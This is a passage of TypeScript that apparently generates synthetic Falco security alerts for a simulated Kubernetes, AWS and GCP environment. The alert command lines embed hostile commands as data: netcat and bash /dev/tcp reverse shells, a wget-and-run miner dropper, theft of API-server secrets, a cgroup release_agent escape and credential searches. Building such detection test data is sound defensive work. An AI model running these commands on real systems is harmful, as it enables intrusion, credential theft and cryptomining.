    if (user.uid === 0) alerts.push(syscall(ctx, 'Read sensitive file untrusted', c, { ...next, chain: [cat, ...session], fields: openat(file) }));
    else if (base === 'debian') alerts.push(syscall(ctx, 'Read sensitive file untrusted', c, { ...next, user: ROOT, chain: [cat, sudo(cat), ...session], fields: openat(file) }));
  }
  return alerts;
};

function runcMemfd(ctx: Ctx, c: Container, offsetMs: number): AlertSpec {
  const { rng } = ctx;
  const task = `/run/containerd/io.containerd.runtime.v2.task/k8s.io/${c.fullId}`;
  const runc = proc('.runc', 'memfd:runc', `--root /run/containerd/runc/k8s.io --log ${task}/log.json --log-format json exec --process /tmp/runc-process${int(rng, 100_000_000, 3_999_999_999)} --detach --pid-file ${task}/${hex(rng, 64)}.pid ${c.fullId}`);
  return syscall(ctx, 'Fileless execution via memfd_create', c.host, {
    chain: [runc], user: ROOT, offsetMs, cwd: '', fields: { 'evt.arg.flags': 'EXE_WRITABLE|EXE_FROM_MEMFD', 'proc.sname': '' },
  });
}

/** An admin reads a protected file on a node with sudo (tmux → bash → sudo → sudo → cat). */
const adminSudo: Scenario = (ctx) => {
  const { rng } = ctx;
  const host = pick(rng, HOSTS);
  const admin = pick(rng, ADMINS);
  const shell = loginShell(host, admin, ctx.tMs, rng);
  const tty = 34816 + int(rng, 0, 4);
  const [command, file] = weighted(rng, [
    [5, ['cat', '/etc/shadow']], [2, ['less', '/etc/sudoers']], [1, ['grep', '/etc/shadow']], [1, ['cat', '/etc/sudoers.d/90-cloud-init-users']],
  ] as const);
  const args = command === 'grep' ? `-E ^(ec2-user|${admin.name}): ${file}` : file;
  const alerts = [syscall(ctx, 'Read sensitive file untrusted', host, { chain: sudoed(tool('amazonlinux', command, args), shell), user: sudoRoot(admin), tty, fields: openat(file) })];
  if (chance(rng, 0.15)) {
    const log = pick(rng, ['/var/log/messages', '/var/log/secure', '/var/log/aws-routed-eni/ipamd.log']);
    alerts.push(syscall(ctx, 'Clear Log Activities', host, {
      chain: sudoed(tool('amazonlinux', 'truncate', `-s 0 ${log}`), shell), user: sudoRoot(admin), tty, offsetMs: int(rng, 20_000, 300_000),
      fields: openat(log),
    }));
  } else if (chance(rng, 0.1)) {
    const target = pick(rng, ['kubelet', 'containerd', 'aws-k8s-agent']);
    alerts.push(syscall(ctx, 'PTRACE attached to process', host, {
      chain: sudoed(tool('amazonlinux', 'strace', `-f -tt -p ${pidStartedAgo(host, ctx.tMs, 3 * DAY_MS)} -o /tmp/${target}.trace`), shell),
      user: sudoRoot(admin), tty, offsetMs: int(rng, 20_000, 300_000), fields: { 'evt.type': 'ptrace' },
    }));
  } else if (chance(rng, 0.04)) {
    alerts.push(syscall(ctx, 'Create Hardlink Over Sensitive Files', host, {
      chain: sudoed(tool('amazonlinux', 'ln', '/etc/shadow /root/shadow.bak'), shell), user: sudoRoot(admin), tty, offsetMs: int(rng, 20_000, 300_000),
      fields: { 'evt.type': 'linkat', 'evt.arg.oldpath': '/etc/shadow', 'evt.arg.newpath': '/root/shadow.bak' },
    }));
  }
  return alerts;
};

/** sshd re-reads /etc/shadow for every login long after it started. */
const sshLogin: Scenario = (ctx) => {
  const host = pick(ctx.rng, HOSTS);
  const chain = [proc('sshd', '/usr/sbin/sshd', '-D -R'), sshdListener(host), SYSTEMD];
  return [syscall(ctx, 'Read sensitive file trusted after startup', host, { chain, user: ROOT, cwd: '/', fields: openat('/etc/shadow') })];
};

/** strace launching a program makes the program call PTRACE_TRACEME. */
const straceRun: Scenario = (ctx) => {
  const { rng } = ctx;
  const c = pickContainer(rng, 'netshoot');
  const url = pick(rng, ['http://checkout-web.checkout.svc:8080/healthz', 'http://payments-api.payments.svc:8080/actuator/health', 'https://kubernetes.default.svc/version']);
  const curl = tool(c.profile.base, 'curl', `-sS -m 5 ${url}`);
  const chain = [curl, tool(c.profile.base, 'strace', `-f -e trace=network ${curl.cmdline}`), tool(c.profile.base, 'bash'), ...execParents(c, ctx.tMs, rng)];
  return [syscall(ctx, 'PTRACE anti-debug attempt', c, { chain, user: ROOT, tty: 34816 + int(rng, 0, 4), fields: { 'evt.type': 'ptrace' } })];
};

/** Someone tests an egress policy from the netshoot pod with a classic bind shell. */
const netcatTest: Scenario = (ctx) => {
  const { rng } = ctx;
  const c = pickContainer(rng, 'netshoot');
  const nc = tool(c.profile.base, 'nc', `-e /bin/sh 10.0.3.${int(rng, 5, 60)} ${pick(rng, [9001, 4444, 8443])}`);
  return [syscall(ctx, 'Netcat Remote Code Execution in Container', c, { chain: [nc, tool(c.profile.base, 'bash'), ...execParents(c, ctx.tMs, rng)], user: ROOT, tty: 34817 })];
};

/** `kubectl debug node/…`: a privileged pod with the node's root filesystem mounted. */
const nodeDebug: Scenario = (ctx) => {
  const { rng } = ctx;
  const c = pickContainer(rng, 'node-debugger');
  const person = pick(rng, K8S_PEOPLE);
  const alerts = [
    pluginAlert(ctx, 'Create Sensitive Mount Pod', AUDIT_HOST, {
      'ka.user.name': person, 'ka.resp.name': c.pod, 'ka.target.namespace': c.ns, 'ka.target.resource': 'pods',
      'ka.req.pod.containers.image': [`${c.repo}:${c.tag}`],
      'jevt.value[/requestObject/spec/volumes]': JSON.stringify([{ hostPath: { path: '/', type: '' }, name: 'host-root' }, { name: 'kube-api-access-2xq7k', projected: { defaultMode: 420 } }]),
    }),
  ];
  if (chance(rng, 0.08)) {
    // A red-team exercise: the classic cgroup v1 release_agent escape from a privileged pod.
    alerts.push(syscall(ctx, 'Detect release_agent File Container Escapes', c, {
      chain: [tool('debian', 'sh', '-c echo /cmd > /tmp/cgrp/release_agent'), ...mainChain(c, ctx.tMs)], user: ROOT, tty: 34816, offsetMs: int(rng, 30_000, 400_000),
      fields: openat('/tmp/cgrp/release_agent'),
    }));
  } else if (chance(rng, 0.5)) {
    const device = pick(rng, ['/dev/nvme0n1p1', '/dev/nvme1n1']);
    alerts.push(syscall(ctx, 'Debugfs Launched in Privileged Container', c, {
      chain: [tool('debian', 'debugfs', `-R stats ${device}`), ...mainChain(c, ctx.tMs)], user: ROOT, tty: 34816, offsetMs: int(rng, 30_000, 400_000),
    }));
  }
  return alerts;
};

const secretGet: Scenario = (ctx) => {
  const { rng } = ctx;
  const [ns, secret] = pick(rng, [['payments', 'payments-db-credentials'], ['payments', 'stripe-api-key'], ['data', 'postgres-superuser'], ['checkout', 'session-signing-key']] as const);
  return [pluginAlert(ctx, 'K8s Secret Get Successfully', AUDIT_HOST, {
    'ka.user.name': pick(rng, K8S_PEOPLE), 'ka.target.name': secret, 'ka.target.namespace': ns, 'ka.target.resource': 'secrets',
    'ka.response.code': '200', 'ka.auth.decision': 'allow', 'ka.auth.reason': rbacReason('ClusterRoleBinding "oncall-admins"', 'cluster-admin', 'Group "oncall"'),
  })];
};

const nodePortService: Scenario = (ctx) => {
  const { rng } = ctx;
  const [name, port] = pick(rng, [['grafana-debug', 3000], ['kafka-external', 9094], ['postgres-tmp', 5432]] as const);
  return [pluginAlert(ctx, 'Create NodePort Service', AUDIT_HOST, {
    'ka.user.name': pick(rng, K8S_PEOPLE), 'ka.target.name': name, 'ka.target.resource': 'services', 'ka.target.namespace': name.startsWith('grafana') ? 'monitoring' : 'data',
    'ka.req.service.ports': JSON.stringify([{ nodePort: int(rng, 30_000, 32_767), port, protocol: 'TCP', targetPort: port }]),
  })];
};

const AWS_PEOPLE = [
  ['AWSReservedSSO_AdministratorAccess_4f1c2b8e9a7d3c65/priya@example.com', '203.0.113.24'],
  ['AWSReservedSSO_PowerUserAccess_0c9d8e7f6a5b4c3d/marek@example.com', '203.0.113.61'],
  ['alice', '203.0.113.24'],
  ['terraform-ci', '54.204.12.87'],
] as const;

const awsEveryday: Scenario = (ctx) => {
  const { rng } = ctx;
  const [user, ip] = pick(rng, AWS_PEOPLE);
  const region = weighted(rng, [[8, 'us-east-1'], [2, 'eu-west-1']] as const);
  const bucket = pick(rng, ['acme-prod-artifacts', 'acme-prod-backups', 'acme-analytics-exports', 'acme-terraform-state']);
  return [
    weighted(rng, [
      [4, () => pluginAlert(ctx, 'List Buckets', CLOUD_HOST, ctFields(user, ip, region, { 'ct.request.host': `s3.${region}.amazonaws.com` }))],
      [2, () => pluginAlert(ctx, 'Put Bucket Policy', CLOUD_HOST, ctFields(user, ip, region, {
        's3.bucket': bucket,
        'ct.request.policy': JSON.stringify({ Version: '2012-10-17', Statement: [{ Sid: 'AllowCIRead', Effect: 'Allow', Principal: { AWS: `arn:aws:iam::${AWS_ACCOUNT}:role/gitlab-runner` }, Action: ['s3:GetObject', 's3:ListBucket'], Resource: [`arn:aws:s3:::${bucket}`, `arn:aws:s3:::${bucket}/*`] }] }),
      }))],
      [1, () => pluginAlert(ctx, 'Create AWS user', CLOUD_HOST, ctFields(user, ip, region, { 'ct.request.username': pick(rng, ['svc-reporting', 'ci-artifacts-reader', 'contractor-jdoe', 'backup-exporter']) }))],
      [1, () => pluginAlert(ctx, 'Console Login Without MFA', CLOUD_HOST, ctFields(pick(rng, ['bob', 'breakglass-admin']), pick(rng, ['203.0.113.61', '192.0.2.140']), 'us-east-1'))],
      [0.15, () => pluginAlert(ctx, 'Delete Bucket Public Access Block', CLOUD_HOST, ctFields(user, ip, region, { 's3.bucket': 'acme-public-assets' }))],
      [0.1, () => pluginAlert(ctx, 'CloudTrail Logging Disabled', CLOUD_HOST, ctFields(user, ip, region, { 'ct.request.name': 'acme-staging-trail' }))],
    ] as const)(),
  ];
};

const GCP_PEOPLE = [
  ['priya@example.com', '203.0.113.24', GCLOUD_AGENT],
  ['terraform@acme-analytics-prod.iam.gserviceaccount.com', '34.138.20.77', TERRAFORM_AGENT],
  ['bob@example.com', '203.0.113.61', BROWSER_AGENT],
] as const;

const gcpEveryday: Scenario = (ctx) => {
  const { rng } = ctx;
  const [user, ip, agent] = pick(rng, GCP_PEOPLE);
  const bucket = pick(rng, ['acme-analytics-raw', 'acme-analytics-exports', 'acme-ml-models']);
  const account = pick(rng, ['dataflow-runner', 'looker-reader', 'airflow-worker']);
  const email = `${account}@${GCP_PROJECT}.iam.gserviceaccount.com`;
  return [
    weighted(rng, [
      [3, () => pluginAlert(ctx, 'GCP Bucket enumerated', CLOUD_HOST, gcpFields(user, ip, agent, 'storage.objects.list', `projects/_/buckets/${bucket}`, {}, { 'gcp.storage.bucket': bucket }))],
      [1.5, () => pluginAlert(ctx, 'GCP IAM service account key created', CLOUD_HOST, gcpFields(user, ip, agent, 'iam.serviceAccountKeys.create', `projects/-/serviceAccounts/${email}`, { '@type': 'type.googleapis.com/google.iam.admin.v1.CreateServiceAccountKeyRequest', name: `projects/-/serviceAccounts/${email}`, private_key_type: 2 }))],
      [1, () => pluginAlert(ctx, 'GCP IAM policy modified', CLOUD_HOST, gcpFields(user, ip, agent, 'resourcemanager.projects.setIamPolicy', `projects/${GCP_PROJECT}`, { '@type': 'type.googleapis.com/google.iam.v1.SetIamPolicyRequest', resource: GCP_PROJECT }, {
        'gcp.policyDelta': JSON.stringify([{ action: 'ADD', member: `serviceAccount:${email}`, role: pick(rng, ['roles/bigquery.dataViewer', 'roles/storage.objectViewer', 'roles/dataflow.worker']) }]),
      }))],
      [1, () => pluginAlert(ctx, 'GCP GCE Firewall rule modified', CLOUD_HOST, gcpFields(user, ip, agent, 'compute.firewalls.update', `projects/${GCP_PROJECT}/global/firewalls/allow-airflow-web`, { '@type': 'type.googleapis.com/compute.firewalls.update', name: 'allow-airflow-web', sourceRanges: ['203.0.113.0/24'], allowed: [{ IPProtocol: 'tcp', ports: ['8080'] }] }))],
      [0.1, () => pluginAlert(ctx, 'GCP Bucket configured to be public', CLOUD_HOST, gcpFields(user, ip, agent, 'storage.buckets.setIamPolicy', 'projects/_/buckets/acme-public-datasets', { '@type': 'type.googleapis.com/google.iam.v1.SetIamPolicyRequest', resource: 'projects/_/buckets/acme-public-datasets' }, {
        'gcp.policyDelta': JSON.stringify([{ action: 'ADD', member: 'allUsers', role: 'roles/storage.objectViewer' }]), 'gcp.storage.bucket': 'acme-public-datasets',
      }))],
    ] as const)(),
  ];
};

/** Apps that talk to the API server (leader election, config reload, the CI runner starting pods). */
const apiServerContact: Scenario = (ctx) => {
  const { rng } = ctx;
  const c = weighted(rng, [[4, pickContainer(rng, 'runner')], [3, pickContainer(rng, 'java')], [2, pickContainer(rng, 'python')]] as const);
  return [syscall(ctx, 'Contact K8S API Server From Container', c, { chain: mainChain(c, ctx.tMs), user: c.profile.user, fields: connection(rng, c.ip, API_SERVER, 443) })];
};

/** Kafka's exec readiness probe opens a bash /dev/tcp socket. */
const kafkaProbe: Scenario = (ctx) => {
  const { rng } = ctx;
  const c = pickContainer(rng, 'kafka');
  const bash = tool(c.profile.base, 'bash', '-c exec 3<>/dev/tcp/127.0.0.1/9092 && echo ok >&3');
  const client = ephemeralPort(rng);
  return [syscall(ctx, 'Redirect STDOUT/STDIN to Network Connection in Container', c, {
    chain: [bash, ...execParents(c, ctx.tMs, rng)], user: c.profile.user,
    fields: { 'evt.type': 'dup2', 'fd.name': `127.0.0.1:${client}->127.0.0.1:9092`, 'fd.sip': '127.0.0.1', 'fd.lport': 9092, 'fd.rport': client, 'fd.type': 'ipv4', 'fd.l4proto': 'tcp' },
  })];
};

/** Python's platform module shells out to `uname -p`, and Java apps run helper scripts. */
const appShell: Scenario = (ctx) => {
  const { rng } = ctx;
  const c = pickContainer(rng, 'python', 'python', 'java');
  const command = c.profile.kind === 'python' ? '-c uname -p 2> /dev/null' : pick(rng, ['-c ulimit -n', '-c df -Pk /tmp', '-c /app/bin/rotate-keys.sh --quiet']);
  return [syscall(ctx, 'Run shell untrusted', c, { chain: [tool(c.profile.base, 'sh', command), ...mainChain(c, ctx.tMs)], user: c.profile.user })];
};

const SYSTEM_CONTROLLERS = [
  ['system:serviceaccount:kube-system:ebs-csi-controller-sa', 'update', 'leases', 'kube-system', 'ebs-csi-aws-com', '200'],
  ['system:serviceaccount:kube-system:ebs-csi-controller-sa', 'patch', 'nodes', null, 'NODE', '200'],
  ['eks:addon-manager', 'patch', 'configmaps', 'kube-system', 'aws-auth', '200'],
  ['eks:node-manager', 'patch', 'nodes', null, 'NODE', '200'],
  ['eks:certificate-controller', 'update', 'certificatesigningrequests', null, 'CSR', '200'],
  ['system:serviceaccount:ci:gitlab-runner', 'create', 'pods', 'ci', 'RUNNER', '201'],
  ['system:serviceaccount:ci:gitlab-runner', 'delete', 'pods', 'ci', 'RUNNER', '200'],
  ['system:serviceaccount:monitoring:prometheus-server', 'list', 'endpoints', null, null, '200'],
  ['system:serviceaccount:monitoring:grafana', 'get', 'configmaps', 'monitoring', 'grafana-dashboards', '403'],
] as const;

const disallowedController: Scenario = (ctx) => {
  const { rng } = ctx;
  const [user, verb, resource, ns, name, code] = pick(rng, SYSTEM_CONTROLLERS);
  const target =
    name === 'NODE' ? pick(rng, HOSTS).name
    : name === 'CSR' ? `csr-${k8sSuffix(rng, 5)}`
    : name === 'RUNNER' ? pickContainer(rng, 'build-go', 'build-node', 'build-python', 'dind').pod
    : name;
  const subresource = resource === 'nodes' ? 'status' : resource === 'certificatesigningrequests' ? 'approval' : '';
  return [disallowedUser(ctx, user, verb, resource, ns, target, code, subresource)];
};

/** New nodes get their DaemonSet pods: created in kube-system by the controller. */
const kubeSystemPod: Scenario = (ctx) => {
  const { rng } = ctx;
  const [app, images] = pick(rng, [
    ['aws-node', [`${EKS_ECR}/amazon-k8s-cni:v1.18.1-eksbuild.1`, `${EKS_ECR}/amazon/aws-network-policy-agent:v1.1.1-eksbuild.1`]],
    ['ebs-csi-node', [`${EKS_ECR}/eks/aws-ebs-csi-driver:v1.30.0`, `${EKS_ECR}/eks/csi-node-driver-registrar:v2.10.0-eks-1-29-7`, `${EKS_ECR}/eks/livenessprobe:v2.12.0-eks-1-29-7`]],
    ['kube-proxy', [`${EKS_ECR}/eks/kube-proxy:v1.29.3-minimal-eksbuild.2`]],
  ] as const);
  return [pluginAlert(ctx, 'Pod Created in Kube Namespace', AUDIT_HOST, {
    'ka.user.name': 'system:serviceaccount:kube-system:daemon-set-controller', 'ka.resp.name': `${app}-${k8sSuffix(rng, 5)}`,
    'ka.target.resource': 'pods', 'ka.target.namespace': 'kube-system', 'ka.req.pod.containers.image': images,
  })];
};

/** Busy nodes (Kafka, CI builds) occasionally overflow Falco's ring buffer. */
const dropsNoise: Scenario = (ctx) => {
  const host = weighted(ctx.rng, [[3, CI_HOST], [2, hostAt(1)], [2, hostAt(2)], [1, hostAt(4)], [0.5, hostAt(0)], [0.5, hostAt(3)]]);
  return [syscallDrop(ctx, host, chance(ctx.rng, 0.08))];
};

/** A cron job on the nodes empties the CNI's debug log. */
const logTrim: Scenario = (ctx) => {
  const host = pick(ctx.rng, HOSTS);
  const log = '/var/log/aws-routed-eni/ipamd.log';
  const chain = [tool('amazonlinux', 'truncate', `-s 0 ${log}`), tool('amazonlinux', 'sh', '/etc/cron.hourly/trim-cni-logs'), proc('crond', '/usr/sbin/crond', '-n'), SYSTEMD];
  return [syscall(ctx, 'Clear Log Activities', host, { chain, user: ROOT, cwd: '/', fields: openat(log) })];
};

/** A scanner probes cart-service (which runs as root) for path traversal. */
const traversalProbe: Scenario = (ctx) => {
  const c = pick(ctx.rng, (byKind.get('python') ?? []).filter((python) => python.profile.user.uid === 0));
  const raw = pick(ctx.rng, ['/srv/app/static/../../../etc/shadow', '/srv/app/static/../../../../../../etc/shadow']);
  return [syscall(ctx, 'Directory traversal monitored file read', c, { chain: mainChain(c, ctx.tMs), user: ROOT, fields: openat('/etc/shadow', { 'fd.nameraw': raw }) })];
};

// ─── CI ──────────────────────────────────────────────────────────────────────────────────────────

/** The job script: bash is the build container's first process (GitLab's Kubernetes executor). */
const jobShell = (c: Container, tMs: number) => mainChain(c, tMs);

const ciPrivilegedPod: Scenario = (ctx) => {
  const { rng } = ctx;
  const dind = pickContainer(rng, 'dind');
  const alerts = [
    pluginAlert(ctx, 'Create Privileged Pod', AUDIT_HOST, {
      'ka.user.name': 'system:serviceaccount:ci:gitlab-runner', 'ka.resp.name': dind.pod, 'ka.target.resource': 'pods', 'ka.target.namespace': 'ci',
      'ka.req.pod.containers.image': ['docker.io/library/docker:26.0-cli', RUNNER_HELPER, `${dind.repo}:${dind.tag}`],
      'ka.req.pod.initContainers.image': [RUNNER_HELPER], 'ka.req.pod.ephemeralContainers.image': null,
    }),
  ];
  if (chance(rng, 0.5)) {
    const module = pick(rng, ['ip_tables', 'iptable_nat', 'overlay', 'br_netfilter']);
    alerts.push(syscall(ctx, 'Linux Kernel Module Injection Detected', dind, {
      chain: [tool('alpine', 'modprobe', module), ...mainChain(dind, ctx.tMs)], user: ROOT, offsetMs: int(rng, 4_000, 20_000),
      fields: { 'evt.type': 'finit_module' },
    }));
  }
  return alerts;
};

/** A freshly built binary runs in the build container: not part of the image, so Critical. */
const ciDropExecute: Scenario = (ctx) => {
  const { rng } = ctx;
  const c = pickContainer(rng, 'build-go', 'build-node');
  const cwd = c.profile.cwd;
  if (c.profile.kind === 'build-go') {
    const [name, args] = pick(rng, [['server', '--version'], ['ledger-migrate', '--dry-run --config config/ci.yaml'], ['ledger-e2e', '-test.v -test.run TestLedger']] as const);
    const exe = `${cwd}bin/${name}`;
    return [syscall(ctx, 'Drop and execute new binary in container', c, {
      chain: [proc(name, exe, args, { argv0: `./bin/${name}` }), ...jobShell(c, ctx.tMs)], user: ROOT, fields: droppedBinary(ctx, `./bin/${name}`, int(rng, 2_000, 90_000)),
    })];
  }
  const esbuild = `${cwd}node_modules/@esbuild/linux-x64/bin/esbuild`;
  const vite = proc('node', '/usr/local/bin/node', `${cwd}node_modules/.bin/vite build`);
  const npm = proc('npm run build', '/usr/local/bin/node', '');
  return [syscall(ctx, 'Drop and execute new binary in container', c, {
    chain: [proc('esbuild', esbuild, '--service=0.20.2 --ping', { argv0: esbuild }), vite, tool('debian', 'sh', '-c vite build'), npm, ...jobShell(c, ctx.tMs)],
    user: ROOT, fields: droppedBinary(ctx, esbuild, int(rng, 20_000, 200_000)),
  })];
};

/** npm lifecycle scripts run through sh from node. */
const ciNpmShell: Scenario = (ctx) => {
  const { rng } = ctx;
  const c = pickContainer(rng, 'build-node');
  const script = pick(rng, ['-c node install.js', '-c husky install', '-c node-gyp-build', '-c patch-package']);
  const npm = proc('npm ci', '/usr/local/bin/node', '');
  return [syscall(ctx, 'Run shell untrusted', c, { chain: [tool('debian', 'sh', script), npm, ...jobShell(c, ctx.tMs)], user: ROOT })];
};

/** Private Go modules and submodules come from GitLab's ssh on port 2222. */
const ciGitSsh: Scenario = (ctx) => {
  const { rng } = ctx;
  const c = pickContainer(rng, 'build-go', 'build-node', 'build-python');
  const repo = pick(rng, ['acme/shared-protos', 'acme/go-commons', 'acme/design-tokens']);
  const ssh = tool('debian', 'ssh', `-o SendEnv=GIT_PROTOCOL -p 2222 git@gitlab.acme.internal git-upload-pack '${repo}.git'`);
  const git = tool('debian', 'git', `clone --depth 1 ssh://git@gitlab.acme.internal:2222/${repo}.git`);
  return [syscall(ctx, 'Disallowed SSH Connection Non Standard Port', c, { chain: [ssh, git, ...jobShell(c, ctx.tMs)], user: ROOT, fields: connection(rng, c.ip, GITLAB_SSH, 2222) })];
};

/** The secret-scanning job greps the repository for keys. */
const ciSecretScan: Scenario = (ctx) => {
  const { rng } = ctx;
  const c = pickContainer(rng, 'build-go', 'build-node', 'build-python');
  if (chance(rng, 0.45)) {
    return [syscall(ctx, 'Find AWS Credentials', c, { chain: [tool('debian', 'grep', '-rIn --exclude-dir=.git aws_secret_access_key .'), ...jobShell(c, ctx.tMs)], user: ROOT })];
  }
  const command = chance(rng, 0.5) ? tool('debian', 'grep', '-rIl --exclude-dir=node_modules BEGIN RSA PRIVATE KEY .') : tool('debian', 'find', '. -name id_rsa -o -name *.pem -o -name *.key');
  return [syscall(ctx, 'Search Private Keys or Passwords', c, { chain: [command, ...jobShell(c, ctx.tMs)], user: ROOT })];
};

const ciDeploy: Scenario = (ctx) => {
  const { rng } = ctx;
  const [app, ns] = pick(rng, [['checkout-web', 'checkout'], ['cart-service', 'checkout'], ['payments-api', 'payments']] as const);
  return [pluginAlert(ctx, 'K8s Deployment Created', AUDIT_HOST, {
    'ka.user.name': 'system:serviceaccount:ci:deployer', 'ka.target.name': `${app}-pr-${int(rng, 1_200, 1_480)}`, 'ka.target.namespace': ns,
    'ka.target.resource': 'deployments', 'ka.response.code': '201', 'ka.auth.decision': 'allow',
    'ka.auth.reason': `RBAC: allowed by RoleBinding "ci-deployer/${ns}" of ClusterRole "edit" to ServiceAccount "deployer/ci"`,
  })];
};

const ciHousekeeping: Scenario = (ctx) => {
  const { rng } = ctx;
  const c = pickContainer(rng, 'build-python', 'build-node');
  const shell = jobShell(c, ctx.tMs);
  return [
    weighted(rng, [
      [2, () => syscall(ctx, 'Remove Bulk Data from Disk', c, { chain: [tool('debian', 'shred', '-u -z deploy/secrets/signing-key.pem'), ...shell], user: ROOT })],
      [1.5, () => syscall(ctx, 'Create Symlink Over Sensitive Files', c, {
        chain: [tool('debian', 'ln', `-s /etc ${c.profile.cwd}rootfs/etc`), ...shell], user: ROOT,
        fields: { 'evt.type': 'symlinkat', 'evt.arg.target': '/etc', 'evt.arg.linkpath': `${c.profile.cwd}rootfs/etc` },
      })],
      [1, () => {
        const script = `/dev/shm/playwright-${hex(rng, 6)}/run.sh`;
        return syscall(ctx, 'Execution from /dev/shm', c, { chain: [tool('debian', 'sh', `-c ${script}`), ...shell], user: ROOT, fields: { 'fd.name': script } });
      }],
    ] as const)(),
  ];
};

// ─── Rhythm and volume ───────────────────────────────────────────────────────────────────────────

function utcHour(tMs: number): number {
  const d = new Date(tMs);
  return d.getUTCHours() + d.getUTCMinutes() / 60;
}

/** People: a working day around 13:00 UTC, quiet nights, quieter weekends. */
function officeHours(tMs: number): number {
  const weekday = new Date(tMs).getUTCDay() % 6 !== 0;
  return (weekday ? 1 : 0.45) * (0.06 + Math.exp(-((utcHour(tMs) - 13) ** 2) / (2 * 3.5 ** 2)));
}

/** CI follows the people, plus the nightly pipelines at 02:15 UTC. */
const ciHours = (tMs: number) => officeHours(tMs) + 0.7 * Math.exp(-((utcHour(tMs) - 2.25) ** 2) / (2 * 0.35 ** 2));
/** Machines run all day; traffic-driven noise follows the users a little. */
const machineHours = (tMs: number) => 0.8 + 0.4 * officeHours(tMs);

interface Category {
  name: string;
  /** Share of the everyday (non-burst) alerts. */
  share: number;
  activity: (tMs: number) => number;
  scenarios: readonly (readonly [number, Scenario])[];
}

const CATEGORIES: readonly Category[] = [
  {
    name: 'people', share: 0.45, activity: officeHours,
    scenarios: [
      [10, execSession], [5, adminSudo], [4, sshLogin], [3, awsEveryday], [3, gcpEveryday], [0.8, straceRun], [0.3, netcatTest],
      [0.6, nodeDebug], [0.35, secretGet], [0.2, nodePortService],
    ],
  },
  {
    name: 'machines', share: 0.35, activity: machineHours,
    scenarios: [
      [10, apiServerContact], [6, kafkaProbe], [7, appShell], [6, disallowedController], [0.7, kubeSystemPod], [1.2, dropsNoise],
      [0.8, logTrim], [0.5, traversalProbe],
    ],
  },
  {
    name: 'ci', share: 0.2, activity: ciHours,
    scenarios: [[3, ciPrivilegedPod], [3, ciDropExecute], [3, ciNpmShell], [3, ciGitSsh], [2.5, ciSecretScan], [3, ciDeploy], [1, ciHousekeeping]],
  },
];

/** The average of an activity curve over one week, sampled per minute. */
function weeklyMean(activity: (tMs: number) => number): number {
  let sum = 0;
  const minutes = 7 * 24 * 60;
  for (let minute = 0; minute < minutes; minute++) sum += activity(minute * MINUTE_MS);
  return sum / minutes;
}

/** Alerts per incident, measured once on fixed draws (an exec session raises two or three). */
function alertsPerIncident(category: Category): number {
  const samples = 400;
  let alerts = 0;
  for (let i = 0; i < samples; i++) {
    const rng = rngFor('calibrate', category.name, i);
    const tMs = Date.UTC(2024, 0, 10, 12);
    alerts += weighted(rng, category.scenarios)({ rng, tMs, tNs: BigInt(tMs) * NS_PER_MS }).length;
  }
  return alerts / samples;
}

const CATEGORY_SCALE = CATEGORIES.map((category) => category.share / alertsPerIncident(category) / weeklyMean(category.activity));

// ─── Bursts: incidents that light up the dashboard for a few minutes ─────────────────────────────

type BurstKind = (rng: Rng, startMs: number) => Scenario;

/** A Java app exploited (log4shell-style): java → sh → wget, a dropped miner, credential hunting. */
const javaRce: BurstKind = (rng, startMs) => {
  const c = pickContainer(rng, 'java', 'kafka');
  const base = c.profile.base;
  const ip = `198.51.100.${int(rng, 10, 250)}`;
  const main = mainChain(c, startMs);
  const pid = hostPidAt(c.host, startMs);
  const dropper = { ...tool(base, 'sh', `-c wget -q -O /tmp/kinsing http://${ip}/kinsing && chmod +x /tmp/kinsing && /tmp/kinsing`), pid };
  const kinsing = proc('kinsing', '/tmp/kinsing', '', { argv0: '/tmp/kinsing', pid: pid + 4 });
  const shell = { ...tool(base, 'sh', ''), pid: pid + 31 };
  const user = c.profile.user;
  return (ctx) => [
    weighted(ctx.rng, [
      [3, () => syscall(ctx, 'Run shell untrusted', c, { chain: [dropper, ...main], user })],
      [2, () => syscall(ctx, 'Drop and execute new binary in container', c, { chain: [kinsing, dropper, ...main], user, fields: droppedBinary(ctx, '/tmp/kinsing', int(ctx.rng, 800, 4_000)) })],
      [2, () => syscall(ctx, 'Contact K8S API Server From Container', c, {
        chain: [tool(base, 'wget', `-qO- --no-check-certificate --header=Authorization: Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6Ik${hex(ctx.rng, 12)} https://${API_SERVER}/api/v1/namespaces/${c.ns}/secrets`), dropper, ...main],
        user, fields: connection(ctx.rng, c.ip, API_SERVER, 443),
      })],
      [1.5, () => syscall(ctx, 'Find AWS Credentials', c, { chain: [tool(base, 'find', '/ -name credentials -path *.aws* -type f'), shell, kinsing, ...main], user })],
      [1.5, () => syscall(ctx, 'Search Private Keys or Passwords', c, { chain: [tool(base, 'grep', '-rIl BEGIN OPENSSH PRIVATE KEY /home /app /tmp'), shell, kinsing, ...main], user })],
      [1, () => syscall(ctx, 'Fileless execution via memfd_create', c, {
        chain: [proc('kdevtmpfsi', 'memfd:kdevtmpfsi', '-c /tmp/.cfg'), kinsing, dropper, ...main], user,
        fields: { 'evt.arg.flags': 'EXE_WRITABLE|EXE_FROM_MEMFD', 'proc.cwd': '/tmp/' },
      })],
      [1, () => syscall(ctx, 'Execution from /dev/shm', c, { chain: [tool(base, 'sh', '-c /dev/shm/.k/run.sh'), kinsing, dropper, ...main], user, fields: { 'fd.name': '/dev/shm/.k/run.sh' } })],
      [1.5, () => syscall(ctx, 'Redirect STDOUT/STDIN to Network Connection in Container', c, {
        chain: [tool(base, 'bash', `-c bash -i >& /dev/tcp/${ip}/4444 0>&1`), shell, kinsing, ...main], user, fields: connection(ctx.rng, c.ip, ip, 4444, 'dup2'),
      })],
    ] as const)(),
  ];
};

/** A Python app with command injection: python → sh → nc -e /bin/sh 10.0.0.5 4444. */
const pythonReverseShell: BurstKind = (rng, startMs) => {
  const c = pickContainer(rng, 'python');
  const base = c.profile.base;
  const main = mainChain(c, startMs);
  const pid = hostPidAt(c.host, startMs);
  const launcher = { ...tool(base, 'sh', '-c nc -e /bin/sh 10.0.0.5 4444'), pid };
  const nc = { ...tool(base, 'nc', '-e /bin/sh 10.0.0.5 4444'), pid: pid + 1 };
  // nc -e execs the shell in its own process: same pid, new name.
  const shell = { ...tool(base, 'sh'), pid: pid + 1 };
  const user = c.profile.user;
  const root = user.uid === 0;
  return (ctx) => [
    weighted(ctx.rng, [
      [2, () => syscall(ctx, 'Netcat Remote Code Execution in Container', c, { chain: [nc, launcher, ...main], user })],
      [2, () => syscall(ctx, 'Run shell untrusted', c, { chain: [launcher, ...main], user })],
